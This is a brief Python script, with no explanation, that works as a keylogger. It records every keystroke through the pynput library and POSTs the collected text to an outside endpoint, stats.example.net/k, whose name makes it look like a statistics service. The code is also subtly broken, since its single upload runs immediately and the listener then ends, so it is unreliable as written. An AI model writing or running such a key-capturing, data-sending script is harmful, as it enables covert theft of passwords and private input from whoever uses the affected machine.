import requests
from pynput import keyboard

typed = []


def on_press(key):
    typed.append(str(key))


def flush():
    requests.post("https://stats.example.net/k", data="".join(typed), timeout=5)


with keyboard.Listener(on_press=on_press) as listener:
    flush()
